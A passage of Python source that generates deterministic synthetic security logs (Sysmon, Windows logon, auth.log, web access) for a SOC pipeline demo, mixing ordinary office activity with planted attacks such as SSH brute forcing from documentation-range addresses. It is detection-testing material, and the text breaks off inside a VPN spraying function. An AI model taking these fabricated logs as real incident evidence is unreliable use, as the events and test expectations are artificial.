"""Write the bundled sample logs of `socpipe demo`: one day (2026-11-27, +07:00) of the demo province.

The logs are generated, not captured, so they hold no real person's data; a fixed seed makes every run
write the same bytes, so the files kept in the repository can be checked and regenerated. Most events are
ordinary office and server activity; the attacks listed in planted.yaml are woven in, and the tests check
that the starter rules find each of them on its host.

Times: Windows events carry UTC, access logs local time with its +0700 offset, and the Linux servers
log in UTC (RFC 3164 has no zone, and the pipeline reads it as UTC), so all sources agree.

Run: python socpipe/demo/make_samples.py  (writes samples/windows.jsonl, auth.log, access-*.log and
network/<sensor>/conn.log, dns.log, flows.jsonl)
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import string
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from socpipe.dev.capture import Capture, client_hello

HERE = Path(__file__).resolve().parent
SAMPLES = HERE / "samples"
# Access logs do not name their server: socpipe/demo.py maps these file names to the registry's hosts.
ACCESS_FILES = {"dvc-web01": "access-dichvucong.log", "cttdt-web01": "access-congthongtin.log"}
LOCAL = timezone(timedelta(hours=7))
DAY = datetime(2026, 11, 27, tzinfo=LOCAL)
SEED = 20261127

SYSMON = (
    "Microsoft-Windows-Sysmon",
    "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    "Microsoft-Windows-Sysmon/Operational",
)
SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Security")
POWERSHELL = (
    "Microsoft-Windows-PowerShell",
    "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
    "Microsoft-Windows-PowerShell/Operational",
)
EVENTLOG = ("Microsoft-Windows-Eventlog", "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}", "Security")
SCM = ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}", "System")
PROVIDER_PIDS = {SYSMON[0]: 3120, SECURITY[0]: 712, EVENTLOG[0]: 1364, SCM[0]: 688, POWERSHELL[0]: 5208}

# Attackers and their servers use documentation ranges (RFC 5737): no real party is named.
SSH_BRUTE = "203.0.113.45"
RDP_BRUTE = "203.0.113.172"
VPN_SPRAY = "198.51.100.22"
SQLMAP = "198.51.100.14"
WEBSHELL = "203.0.113.77"
C2 = "198.51.100.2"
SCANNER = "203.0.113.92"
SWEEP = "203.0.113.210"

SYS32 = "C:\\Windows\\System32\\"
POWERSHELL_EXE = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
LOGON_PROCESSES = {2: SYS32 + "winlogon.exe", 7: SYS32 + "winlogon.exe", 10: SYS32 + "svchost.exe"}


@dataclass(frozen=True, slots=True)
class Host:
    """A Windows machine of the demo registry: its name, domain (or workgroup name), users and address."""

    fqdn: str
    domain: str
    users: tuple[str, ...]
    ip: str

    @property
    def short(self) -> str:
        return self.fqdn.split(".")[0].upper()


WORKSTATIONS = [
    Host("ws-snv-01.snv.ankhanh.gov.vn", "ANKHANH", ("phamthihoa", "dangvanminh"), "172.16.11.41"),
    Host("ws-snv-02.snv.ankhanh.gov.vn", "ANKHANH", ("lethilan",), "172.16.11.42"),
    Host("ws-snv-03.snv.ankhanh.gov.vn", "ANKHANH", ("nguyenvanan",), "172.16.11.43"),
    Host("ws-stc-01.stc.ankhanh.gov.vn", "ANKHANH", ("hoangvanthang",), "172.16.12.31"),
    Host("ws-stc-02.stc.ankhanh.gov.vn", "ANKHANH", ("tranthibich",), "172.16.12.32"),
    Host("ws-stc-03.stc.ankhanh.gov.vn", "ANKHANH", ("vuthithu",), "172.16.12.33"),
    Host("ws-syt-01.syt.ankhanh.gov.vn", "ANKHANH", ("buivanhung", "dothimai"), "172.16.13.21"),
    Host("ws-syt-02.syt.ankhanh.gov.vn", "ANKHANH", ("ngothiyen",), "172.16.13.22"),
    Host("pc-mc01.binhlac.ankhanh.gov.vn", "PC-MC01", ("motcua", "canbo"), "172.16.101.11"),
    Host("pc-mc02.binhlac.ankhanh.gov.vn", "PC-MC02", ("motcua",), "172.16.101.12"),
    Host("pc-01.hoaphong.ankhanh.gov.vn", "PC-01", ("vanthu",), "172.16.102.11"),
]
QLVB = Host("qlvb-app01.dc.ankhanh.gov.vn", "ANKHANH", ("qt.qlvb",), "10.10.20.15")
AD = Host("sso-ad01.dc.ankhanh.gov.vn", "ANKHANH", ("qt.sso",), "10.10.50.4")
SERVERS = [QLVB, AD]

DOCUMENTS = [
    "Bao_cao_thang_11_2026.docx",
    "To_trinh_phe_duyet_du_toan.docx",
    "Ke_hoach_chuyen_doi_so_2027.docx",
    "Quyet_dinh_bo_nhiem.docx",
    "Cong_van_so_1527.docx",
    "Bien_ban_hop_giao_ban.docx",
]
SHEETS = ["Tong_hop_kinh_phi_Q4.xlsx", "Danh_sach_can_bo.xlsx", "Thong_ke_ho_so_DVC.xlsx"]
PDFS = ["Nghi_dinh_huong_dan.pdf", "Thong_tu_12_2022.pdf", "Giay_moi_hop.pdf", "Van_ban_den_0912.pdf"]


def _guid(rng: random.Random) -> str:
    return "{" + str(uuid.UUID(int=rng.getrandbits(128))).upper() + "}"


def _home(account: str) -> str:
    return "C:\\Users\\" + account.rsplit("\\", 1)[-1]


def _record_base(computer: str, channel: str) -> int:
    """Where a host's log was numbered before the demo day: stable, and different per host and channel."""
    return 20000 + int(hashlib.sha256(f"{computer}/{channel}".encode()).hexdigest()[:6], 16) % 900000


def _hashes(image: str) -> str:
    """Stable fake hashes per file name, so one program always shows the same hash."""
    digest = hashlib.sha256(image.lower().encode()).hexdigest()
    return f"SHA256={digest.upper()},IMPHASH={digest[:32].upper()}"


class Samples:
    """Collects the events of all sources with their times; writes each file in time order."""

    def __init__(self) -> None:
        self.rng = random.Random(SEED)
        self.windows: list[tuple[datetime, int, dict[str, Any]]] = []
        self.syslog: list[tuple[datetime, int, str]] = []
        self.access: dict[str, list[tuple[datetime, int, str]]] = {}
        self._pids: dict[str, int] = {}
        self._serial = 0

    def _next(self) -> int:
        self._serial += 1
        return self._serial

    def at(self, hour: float, spread_minutes: float = 0.0) -> datetime:
        """A local time on the demo day: `hour` as a decimal, jittered by up to `spread_minutes`."""
        seconds = hour * 3600 + self.rng.uniform(0, spread_minutes * 60)
        return DAY + timedelta(seconds=min(seconds, 86399.999))

    def office_time(self) -> datetime:
        """A time in working hours (7:30-11:30, 13:30-17:00), when most benign activity happens."""
        if self.rng.random() < 0.55:
            return self.at(7.5, 240)
        return self.at(13.5, 210)

    def _process(self, when: datetime, host: Host, image: str) -> dict[str, object]:
        """The fields every Sysmon event about one process starts with."""
        return {
            "RuleName": "-",
            "UtcTime": when.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": _guid(self.rng),
            "ProcessId": self.pid(host),
            "Image": image,
        }

    def pid(self, host: Host) -> int:
        self._pids[host.fqdn] = self._pids.get(host.fqdn, 1000) + self.rng.randint(4, 400)
        return self._pids[host.fqdn]

    def win(
        self,
        when: datetime,
        host: Host,
        provider: tuple[str, str, str],
        event_id: int,
        data: dict[str, Any],
        *,
        user_data: str | None = None,
    ) -> None:
        """One event in the nested JSON form of an EVTX export (as evtx_dump writes it)."""
        name, guid, channel = provider
        utc = when.astimezone(UTC)
        system = {
            "Provider": {"#attributes": {"Name": name, "Guid": guid}},
            "EventID": event_id,
            "Level": 0 if channel == "Security" else 4,
            "TimeCreated": {"#attributes": {"SystemTime": utc.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": 0,  # numbered per host and channel in time order by write()
            "Execution": {"#attributes": {"ProcessID": PROVIDER_PIDS.get(name, 4), "ThreadID": 4480}},
            "Channel": channel,
            "Computer": host.fqdn,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}} if name == SYSMON[0] else None,
        }
        event: dict[str, Any] = {"System": system}
        if user_data:
            event["UserData"] = {user_data: data}
        else:
            event["EventData"] = data
        self.windows.append((when, self._next(), {"Event": event}))

    def sysmon_process(
        self,
        when: datetime,
        host: Host,
        user: str,
        image: str,
        command_line: str,
        parent: str,
        parent_command_line: str,
        original_name: str | None = None,
        integrity: str = "Medium",
    ) -> None:
        file_name = image.rsplit("\\", 1)[-1]
        self.win(
            when,
            host,
            SYSMON,
            1,
            {
                **self._process(when, host, image),
                "OriginalFileName": original_name or file_name,
                "CommandLine": command_line,
                "CurrentDirectory": SYS32 if user.startswith(("NT AUTHORITY", "IIS")) else _home(user) + "\\",
                "User": user,
                "LogonId": "0x" + format(self.rng.getrandbits(24), "x"),
                "IntegrityLevel": integrity,
                "Hashes": _hashes(image),
                "ParentProcessGuid": _guid(self.rng),
                "ParentProcessId": self.pid(host),
                "ParentImage": parent,
                "ParentCommandLine": parent_command_line,
            },
        )

    def sysmon_network(self, when: datetime, host: Host, user: str, image: str, ip: str, port: int) -> None:
        self.win(
            when,
            host,
            SYSMON,
            3,
            {
                **self._process(when, host, image),
                "User": user,
                "Protocol": "tcp",
                "Initiated": True,
                "SourceIp": host.ip,
                "SourcePort": self.rng.randint(49152, 65000),
                "DestinationIp": ip,
                "DestinationPort": port,
            },
        )

    def sysmon_file(self, when: datetime, host: Host, user: str, image: str, target: str) -> None:
        self.win(
            when,
            host,
            SYSMON,
            11,
            {
                **self._process(when, host, image),
                "TargetFilename": target,
                "CreationUtcTime": when.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "User": user,
            },
        )

    def logon(
        self,
        when: datetime,
        host: Host,
        user: str,
        logon_type: int,
        ip: str,
        *,
        failed: bool = False,
        sub_status: str = "0xc000006a",
    ) -> None:
        """A successful (4624) or failed (4625) logon; types 2, 7 and 10 are interactive."""
        interactive = logon_type in (2, 7, 10)
        data: dict[str, Any] = {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": f"{host.short}$",
            "SubjectDomainName": host.domain if host.domain != host.short else "WORKGROUP",
            "SubjectLogonId": "0x3e7",
            "TargetUserSid": "S-1-0-0"
            if failed
            else f"S-1-5-21-1004336348-1177238915-682003330-{1100 + len(user)}",
            "TargetUserName": user,
            "TargetDomainName": host.domain,
            "LogonType": logon_type,
            "LogonProcessName": "User32 " if interactive else "NtLmSsp ",
            "AuthenticationPackageName": "Negotiate" if interactive else "NTLM",
            "WorkstationName": host.short,
            "ProcessName": LOGON_PROCESSES.get(logon_type, "-"),
            "IpAddress": ip,
            "IpPort": "0",
        }
        if failed:
            data.update({"Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": sub_status})
        else:
            data["TargetLogonId"] = "0x" + format(self.rng.getrandbits(24), "x")
        self.win(when, host, SECURITY, 4625 if failed else 4624, data)

    def ps_script(self, when: datetime, host: Host, text: str, path: str = "") -> None:
        self.win(
            when,
            host,
            POWERSHELL,
            4104,
            {
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": text,
                "ScriptBlockId": str(uuid.UUID(int=self.rng.getrandbits(128))),
                "Path": path,
            },
        )

    def syslog_line(
        self, when: datetime, host: str, program: str, message: str, pid: int | None = None
    ) -> None:
        """An RFC 3164 line as in /var/log/auth.log (server clock in UTC, no year, no priority)."""
        tag = f"{program}[{pid}]" if pid is not None else program
        utc = when.astimezone(UTC)
        stamp = f"{utc.strftime('%b')} {utc.day:>2} {utc.strftime('%H:%M:%S')}"
        self.syslog.append((when, self._next(), f"{stamp} {host} {tag}: {message}"))

    def access_line(
        self,
        host: str,
        when: datetime,
        ip: str,
        method: str,
        uri: str,
        status: int,
        size: int,
        referer: str = "-",
        agent: str = "-",
        user: str = "-",
    ) -> None:
        """A line of the Apache/Nginx combined log format."""
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S %z")
        line = f'{ip} - {user} [{stamp}] "{method} {uri} HTTP/1.1" {status} {size} "{referer}" "{agent}"'
        self.access.setdefault(host, []).append((when, self._next(), line))

    def write(self, folder: Path) -> dict[str, int]:
        """Write every file in time order; returns the number of events per file name."""
        counts: dict[str, int] = {}
        records: dict[tuple[str, str], int] = {}
        with open(folder / "windows.jsonl", "w", encoding="utf-8", newline="\n") as out:
            for _, _, event in sorted(self.windows, key=lambda item: item[:2]):
                system = event["Event"]["System"]
                key = (system["Computer"], system["Channel"])
                records[key] = records.get(key, _record_base(*key)) + 1
                system["EventRecordID"] = records[key]
                out.write(json.dumps(event, ensure_ascii=False, separators=(",", ":")) + "\n")
        counts["windows.jsonl"] = len(self.windows)
        (folder / "auth.log").write_text(
            "".join(line + "\n" for _, _, line in sorted(self.syslog)), encoding="utf-8", newline="\n"
        )
        counts["auth.log"] = len(self.syslog)
        for host, lines in sorted(self.access.items()):
            name = ACCESS_FILES[host]
            (folder / name).write_text("".join(line + "\n" for _, _, line in sorted(lines)), encoding="utf-8")
            counts[name] = len(lines)
        return counts


# --- benign activity -------------------------------------------------------------------------------


def workstation_day(s: Samples, host: Host) -> None:
    """A civil servant's day: logon, Office, browser, Zalo, PDF reader, signing client, lock/unlock."""
    rng = s.rng
    for user in host.users:
        account = f"{host.domain}\\{user}"
        home = f"C:\\Users\\{user}"
        s.logon(s.at(7.4, 40), host, user, 2, "127.0.0.1")
        for _ in range(rng.randint(45, 60)):
            when = s.office_time()
            choice = rng.random()
            if choice < 0.18:
                doc = rng.choice(DOCUMENTS)
                s.sysmon_process(
                    when,
                    host,
                    account,
                    OFFICE + "WINWORD.EXE",
                    f'"{OFFICE}WINWORD.EXE" /n "{home}\\Documents\\{doc}"',
                    EXPLORER,
                    EXPLORER,
                    "WinWord.exe",
                )
                s.sysmon_file(
                    when + timedelta(seconds=2),
                    host,
                    account,
                    OFFICE + "WINWORD.EXE",
                    f"{home}\\Documents\\~${doc[2:]}",
                )
            elif choice < 0.28:
                sheet = rng.choice(SHEETS)
                s.sysmon_process(
                    when,
                    host,
                    account,
                    OFFICE + "EXCEL.EXE",
                    f'"{OFFICE}EXCEL.EXE" "{home}\\Documents\\{sheet}"',
                    EXPLORER,
                    EXPLORER,
                    "Excel.exe",
                )
            elif choice < 0.48:
                site = rng.choice(
                    [
                        ("10.10.20.15", 443),
                        ("10.10.30.10", 443),
                        ("142.250.66.78", 443),
                        ("10.10.50.5", 443),
                        ("203.162.71.6", 443),
                        ("113.171.230.19", 443),
                    ]
                )
                s.sysmon_network(when, host, account, CHROME, *site)
            elif choice < 0.58:
                pdf = rng.choice(PDFS)
                s.sysmon_file(when, host, account, CHROME, f"{home}\\Downloads\\{pdf}")
                reader = "C:\\Program Files\\Foxit Software\\Foxit PDF Reader\\FoxitPDFReader.exe"
                s.sysmon_process(
                    when + timedelta(seconds=5),
                    host,
                    account,
                    reader,
                    f'"{reader}" "{home}\\Downloads\\{pdf}"',
                    EXPLORER,
                    EXPLORER,
                )
            elif choice < 0.70:
                zalo = f"{home}\\AppData\\Local\\Programs\\Zalo\\Zalo.exe"
                s.sysmon_network(
                    when, host, account, zalo, rng.choice(["49.213.78.18", "120.138.69.81"]), 443
                )
            elif choice < 0.78:
                s.sysmon_process(
                    when,
                    host,
                    "NT AUTHORITY\\SYSTEM",
                    SYS32 + "taskhostw.exe",
                    "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
                    SYS32 + "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    integrity="System",
                )
            elif choice < 0.86:
                sign = "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe"
                s.sysmon_process(
                    when,
                    host,
                    account,
                    sign,
                    f'"{sign}" --sign "{home}\\Documents\\{rng.choice(DOCUMENTS).replace(".docx", ".pdf")}"',
                    EXPLORER,
                    EXPLORER,
                )
            elif choice < 0.92:
                s.logon(when, host, user, 7, "127.0.0.1")
            elif choice < 0.96:
                s.sysmon_process(
                    when,
                    host,
                    account,
                    SYS32 + "ipconfig.exe",
                    "ipconfig /all",
                    SYS32 + "cmd.exe",
                    '"C:\\Windows\\system32\\cmd.exe"',
                    "ipconfig.exe",
                )
            else:
                s.logon(when, host, user, 2, "127.0.0.1", failed=True)
        s.ps_script(
            s.at(7.6, 20),
            host,
            "$os = Get-CimInstance Win32_OperatingSystem\n"
            "$inv = [pscustomobject]@{Host=$env:COMPUTERNAME; OS=$os.Caption; Build=$os.BuildNumber}\n"
            "$inv | ConvertTo-Json | Out-File \\\\ankhanh.local\\NETLOGON\\inventory\\$env:COMPUTERNAME.json",
            "\\\\ankhanh.local\\NETLOGON\\inventory.ps1",
        )
    defender = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe"
    for hour in (9.0, 15.0):
        s.win(
            s.at(hour, 30),
            host,
            SYSMON,
            10,
            {
                "RuleName": "-",
                "SourceProcessGUID": _guid(s.rng),
                "SourceImage": defender,
                "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1410",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                "C:\\Windows\\System32\\KERNELBASE.dll+2c13e",
            },
        )


def legitimate_vgca_install(s: Samples) -> None:
    """A genuine signing-client update on another workstation: the near miss of the SignSight rules."""
    host = WORKSTATIONS[1]
    account = f"{host.domain}\\{host.users[0]}"
    setup = f"C:\\Users\\{host.users[0]}\\Downloads\\vgca_signclient_setup_2.1.exe"
    when = s.at(10.2, 5)
    s.sysmon_file(when, host, account, CHROME, setup)
    s.sysmon_process(when + timedelta(seconds=20), host, account, setup, f'"{setup}"', EXPLORER, EXPLORER)
    s.sysmon_file(
        when + timedelta(seconds=30),
        host,
        account,
        setup,
        "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe",
    )
    s.sysmon_process(
        when + timedelta(seconds=40),
        host,
        account,
        SYS32 + "certutil.exe",
        "certutil.exe -addstore Root vgca_root_ca.cer",
        setup,
        f'"{setup}"',
        "CertUtil.exe",
    )
    s.win(
        when + timedelta(seconds=45),
        host,
        SCM,
        7045,
        {
            "ServiceName": "VGCA Sign Service",
            "ImagePath": '"C:\\Program Files\\VGCA\\Sign Client\\VGCASignService.exe"',
            "ServiceType": "user mode service",
            "StartType": "auto start",
            "AccountName": "LocalSystem",
        },
    )


def server_day(s: Samples) -> None:
    """Servers in the data centre: network logons from workstations, admin PowerShell, service events."""
    rng = s.rng
    for _ in range(160):
        client = rng.choice(WORKSTATIONS)
        s.logon(s.office_time(), QLVB, rng.choice(client.users), 3, client.ip)
    for _ in range(140):
        client = rng.choice(WORKSTATIONS)
        s.logon(s.office_time(), AD, rng.choice(client.users), 3, client.ip)
    w3wp = SYS32 + "inetsrv\\w3wp.exe"
    for _ in range(40):
        s.sysmon_process(
            s.office_time(),
            QLVB,
            "IIS APPPOOL\\QLVB",
            SYS32 + "conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            w3wp,
            'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "QLVB" -v "v4.0"',
            integrity="High",
        )
    for _ in range(50):
        when = s.office_time()
        s.win(
            when,
            AD,
            SECURITY,
            4688,
            {
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": "SSO-AD01$",
                "SubjectDomainName": "ANKHANH",
                "SubjectLogonId": "0x3e7",
                "NewProcessId": hex(s.pid(AD)),
                "NewProcessName": SYS32
                + rng.choice(["gpupdate.exe", "dfsrdiag.exe", "repadmin.exe", "w32tm.exe"]),
                "TokenElevationType": "%%1936",
                "ProcessId": hex(s.pid(AD)),
                "CommandLine": "",
                "ParentProcessName": SYS32 + "svchost.exe",
                "MandatoryLabel": "S-1-16-16384",
            },
        )
    scripts = [
        "Get-ADUser -Filter {Enabled -eq $true} -SearchBase 'OU=SoNoiVu,DC=ankhanh,DC=local' "
        "| Measure-Object",
        "Get-Service W3SVC, QLVBWorker | Select-Object Name, Status",
        "Invoke-WebRequest -Uri https://lgsp.ankhanh.gov.vn/health -UseBasicParsing "
        "| Select-Object StatusCode",
        "Get-EventLog -LogName Application -Newest 50 -EntryType Error",
    ]
    for _ in range(30):
        s.ps_script(s.office_time(), rng.choice(SERVERS), rng.choice(scripts))
    for _ in range(60):
        host = rng.choice([*SERVERS, *WORKSTATIONS])
        name = rng.choice(
            [
                "Windows Update",
                "Background Intelligent Transfer Service",
                "WinHTTP Web Proxy Auto-Discovery Service",
                "Windows Modules Installer",
            ]
        )
        s.win(s.at(0, 1439), host, SCM, 7036, {"param1": name, "param2": rng.choice(["running", "stopped"])})


VN_CLIENTS = [
    "113.161.{}.{}",
    "14.232.{}.{}",
    "27.72.{}.{}",
    "171.241.{}.{}",
    "42.114.{}.{}",
    "58.187.{}.{}",
    "1.54.{}.{}",
    "116.110.{}.{}",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "coc_coc_browser/130.0.244 "
    "Chrome/124.0.6367.244 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Mobile "
    "Safari/537.36 Zalo android/12100511 ZaloTheme/light ZaloLanguage/vn",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
PROCEDURES = ["1.001234", "1.004227", "2.000889", "1.009994", "2.001543", "1.010812"]
FIELDS = ["hotich", "datdai", "doanhnghiep", "xaydung", "tuphap", "laodong"]


def _client(rng: random.Random) -> str:
    return rng.choice(VN_CLIENTS).format(rng.randint(0, 255), rng.randint(1, 254))


def _dossier(rng: random.Random) -> str:
    return f"000.00.{rng.randint(10, 40)}.H01-2611{rng.randint(20, 27)}-{rng.randint(1, 9999):04d}"


def portal_day(s: Samples) -> None:
    """Citizens using the public-service portal (dvc-web01, behind Nginx) during the day."""
    rng = s.rng
    host = "dvc-web01"
    for _ in range(220):
        ip, agent, when = _client(rng), rng.choice(AGENTS), s.office_time()
        visit: list[tuple[str, str, int, int]] = [
            ("GET", "/dichvucong/", 200, rng.randint(18000, 26000)),
            ("GET", "/dichvucong/static/css/app.min.css", 200, 48211),
            ("GET", "/dichvucong/static/js/app.min.js", 200, 301877),
        ]
        page = rng.random()
        if page < 0.4:
            visit.append(
                ("GET", f"/dichvucong/tracuu/hoso?mahoso={_dossier(rng)}", 200, rng.randint(3000, 9000))
            )
        elif page < 0.7:
            visit.append(
                (
                    "GET",
                    f"/dichvucong/thutuchanhchinh?linhvuc={rng.choice(FIELDS)}&page={rng.randint(1, 5)}",
                    200,
                    rng.randint(9000, 30000),
                )
            )
            visit.append(
                (
                    "GET",
                    f"/dichvucong/thutuchanhchinh/chitiet?ma={rng.choice(PROCEDURES)}",
                    200,
                    rng.randint(12000, 20000),
                )
            )
        elif page < 0.9:
            visit.append(("GET", "/dichvucong/dangnhap", 302, 0))
            visit.append(("GET", f"/dichvucong/dvctructuyen/nophoso?ma={rng.choice(PROCEDURES)}", 200, 15890))
            visit.append(("POST", "/dichvucong/dvctructuyen/nophoso/dinhkem", 200, 211))
            visit.append(
                (
                    "GET",
                    f"/dichvucong/upload/hoso/2026/11/{_dossier(rng)}_tokhai.pdf",
                    200,
                    rng.randint(80000, 400000),
                )
            )
        else:
            visit.append(
                ("GET", "/dichvucong/thanhtoan/ketqua?ma=" + str(rng.randint(10**9, 10**10)), 200, 4120)
            )
        referer = "-"
        for offset, (method, uri, status, size) in enumerate(visit):
            s.access_line(
                host,
                when + timedelta(seconds=offset * rng.uniform(0.2, 9)),
                ip,
                method,
                uri,
                status,
                size,
                referer,
                agent,
            )
            referer = "https://dichvucong.ankhanh.gov.vn/dichvucong/"
    for _ in range(30):
        s.access_line(
            host, s.at(0, 1439), _client(rng), "GET", "/favicon.ico", 404, 162, "-", rng.choice(AGENTS)
        )
    for _ in range(40):
        s.access_line(
            host,
            s.office_time(),
            "10.10.99.15",
            "GET",
            "/quantri/thongke?ngay=2026-11-27",
            200,
            rng.randint(5000, 8000),
            "-",
            AGENTS[0],
            "qt.dvc",
        )


def egov_portal_day(s: Samples) -> None:
    """The provincial e-government portal (www, cttdt-web01): news and legal documents."""
    rng = s.rng
    host = "cttdt-web01"
    pages = [
        "/",
        "/tin-tuc/hoat-dong-cua-lanh-dao-tinh",
        "/tin-tuc/kinh-te-xa-hoi",
        "/van-ban/chi-dao-dieu-hanh",
        "/gioi-thieu/tong-quan",
        "/lien-he",
        "/tintuc/chitiet?id={}",
        "/van-ban/chitiet?so={}%2FQD-UBND",
    ]
    for _ in range(520):
        page = rng.choice(pages).format(rng.randint(1000, 9999))
        s.access_line(
            host,
            s.at(6, 1000),
            _client(rng),
            "GET",
            page,
            200,
            rng.randint(9000, 60000),
            rng.choice(["-", "https://www.google.com/", "https://ankhanh.gov.vn/"]),
            rng.choice(AGENTS),
        )
    for _ in range(25):
        s.access_line(
            host,
            s.at(0, 1439),
            _client(rng),
            "GET",
            "/wp-content/uploads/old.pdf",
            404,
            162,
            "-",
            rng.choice(AGENTS),
        )


def linux_day(s: Samples) -> None:
    """Routine auth.log lines of the Linux servers: admin SSH sessions, sudo, cron, an occasional typo."""
    rng = s.rng
    hosts = ["dvc-web01", "dvc-web02", "lgsp-gw01", "mx01", "sso-idp01", "vpn-gw01", "cttdt-web01"]
    for host in hosts:
        for hour in range(24):
            for minute in (17,):
                when = DAY + timedelta(hours=hour, minutes=minute, seconds=1)
                pid = rng.randint(10000, 60000)
                s.syslog_line(
                    when,
                    host,
                    "CRON",
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                    pid,
                )
                s.syslog_line(
                    when, host, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", pid
                )
                s.syslog_line(
                    when + timedelta(seconds=1),
                    host,
                    "CRON",
                    "pam_unix(cron:session): session closed for user root",
                    pid,
                )
        for _ in range(rng.randint(3, 6)):
            when, pid = s.office_time(), rng.randint(10000, 60000)
            admin = rng.choice(["quantri", "tranvanbinh", "lehoangnam"])
            src = f"10.10.99.{rng.randint(5, 20)}"
            if rng.random() < 0.25:
                s.syslog_line(
                    when - timedelta(seconds=6),
                    host,
                    "sshd",
                    f"Failed password for {admin} from {src} port {rng.randint(40000, 65000)} ssh2",
                    pid,
                )
            s.syslog_line(
                when,
                host,
                "sshd",
                f"Accepted publickey for {admin} from {src} port "
                f"{rng.randint(40000, 65000)} ssh2: ED25519 SHA256:3kq0Zb8fQ1m9yWc7v2x5LtR4oPa6s",
                pid,
            )
            s.syslog_line(
                when,
                host,
                "sshd",
                f"pam_unix(sshd:session): session opened for user {admin}(uid=1001) by (uid=0)",
                pid,
            )
            s.syslog_line(
                when,
                host,
                "systemd-logind",
                f"New session {rng.randint(100, 999)} of user {admin}.",
                rng.randint(500, 900),
            )
            command = rng.choice(
                [
                    "/usr/bin/systemctl restart nginx",
                    "/usr/bin/apt update",
                    "/usr/bin/journalctl -u tomcat --since today",
                    "/usr/bin/tail -n 200 /var/log/syslog",
                ]
            )
            sudo_at = when + timedelta(minutes=rng.randint(1, 20))
            s.syslog_line(
                sudo_at,
                host,
                "sudo",
                f"  {admin} : TTY=pts/0 ; PWD=/home/{admin} ; USER=root ; COMMAND={command}",
            )
            s.syslog_line(
                sudo_at,
                host,
                "sudo",
                f"pam_unix(sudo:session): session opened for user root(uid=0) by {admin}(uid=1001)",
            )
            s.syslog_line(
                sudo_at + timedelta(minutes=rng.randint(1, 30)),
                host,
                "sshd",
                f"pam_unix(sshd:session): session closed for user {admin}",
                pid,
            )
    for _ in range(90):
        when, pid = s.office_time(), rng.randint(1000, 9000)
        user = rng.choice(["canbo.snv", "canbo.stc", "ketoan.stc", "yte.syt", "motcua.binhlac"])
        s.syslog_line(
            when,
            "vpn-gw01",
            "openvpn",
            f"{_client(rng)}:{rng.randint(40000, 65000)} [{user}] Peer "
            "Connection Initiated with [AF_INET]" + _client(rng) + f":{rng.randint(40000, 65000)}",
            pid,
        )


# --- planted attacks (see planted.yaml) --------------------------------------------------------------


def attack_ssh_bruteforce(s: Samples) -> None:
    """Password guessing against a portal server's SSH from the Internet, 01:40-01:55 local."""
    rng = s.rng
    names = [
        "root",
        "admin",
        "oracle",
        "ubuntu",
        "test",
        "postgres",
        "user",
        "ftpuser",
        "quantri",
        "administrator",
    ]
    start = s.at(1 + 40 / 60, 1)
    for i in range(130):
        when = start + timedelta(seconds=i * 7 + rng.uniform(0, 3))
        pid, port, name = rng.randint(20000, 30000), rng.randint(30000, 65000), rng.choice(names)
        if name in ("root", "quantri"):
            s.syslog_line(
                when,
                "dvc-web02",
                "sshd",
                f"Failed password for {name} from {SSH_BRUTE} port {port} ssh2",
                pid,
            )
        else:
            s.syslog_line(when, "dvc-web02", "sshd", f"Invalid user {name} from {SSH_BRUTE} port {port}", pid)
            s.syslog_line(
                when + timedelta(seconds=2),
                "dvc-web02",
                "sshd",
                f"Failed password for invalid user {name} from {SSH_BRUTE} port {port} ssh2",
                pid,
            )


def attack_vpn_spray(s: Samples) -> None:
    """Password spraying of staff VPN accounts, 22:05-22:20 local."""
    rng = s.rng
    start = s.at(22 + 5 / 60, 1)
